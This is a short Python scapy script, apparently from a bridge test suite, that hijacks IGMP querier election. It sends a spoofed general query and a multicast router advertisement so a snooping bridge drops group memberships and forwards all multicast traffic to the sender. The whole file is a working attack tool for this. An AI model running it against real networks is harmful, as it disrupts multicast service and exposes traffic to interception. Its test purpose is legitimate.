#!/usr/bin/python3
# SPDX-License-Identifier: (GPL-2.0-only OR BSD-2-Clause)
"""IGMP querier hijack, for the attack tests: one general query (IGMPv2,
to 224.0.0.1, max response 1 s) from this host's own address, lower than
the current querier's, and one multicast router advertisement (RFC 4286,
type 0x30, to 224.0.0.106); then silence.  The lowest address wins the
querier election (RFC 2236 3): the other queriers, the bridge's own
included, stop querying for the "other querier present" interval, so
nobody asks the members to report and their memberships expire in the
snooping bridge although every member still wants its groups.  Both
messages also make a Linux bridge take the sender's port as a multicast
router port, which then gets all multicast traffic.

Usage: igmp_query.py IFACE --src OWN_IP     (prints "done, N frames sent")
"""
import argparse

from scapy.all import IP, Ether, IPOption_Router_Alert, Raw, conf, get_if_hwaddr
from scapy.contrib.igmp import IGMP


def checksum(data):
    s = sum((data[i] << 8) | data[i + 1] for i in range(0, len(data), 2))
    s = (s & 0xffff) + (s >> 16)
    return (~s & 0xffff).to_bytes(2, "big")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("iface")
    ap.add_argument("--src", required=True)
    a = ap.parse_args()

    mac = get_if_hwaddr(a.iface)
    sock = conf.L2socket(iface=a.iface)
    ra = [IPOption_Router_Alert()]

    sock.send(Ether(src=mac, dst="01:00:5e:00:00:01")
              / IP(src=a.src, dst="224.0.0.1", ttl=1, options=ra)
              / IGMP(type=0x11, mrcode=10, gaddr="0.0.0.0"))
    # MRD advertisement (RFC 4286 4): type 0x30, advertisement interval
    # 20 s, checksum, query interval 125 s, robustness 2.
    mrd = bytearray([0x30, 20, 0, 0, 0, 125, 0, 2])
    mrd[2:4] = checksum(mrd)
    sock.send(Ether(src=mac, dst="01:00:5e:00:00:6a")
              / IP(src=a.src, dst="224.0.0.106", ttl=1, proto=2, options=ra)
              / Raw(bytes(mrd)))
    print("done, 2 frames sent", flush=True)


if __name__ == "__main__":
    main()
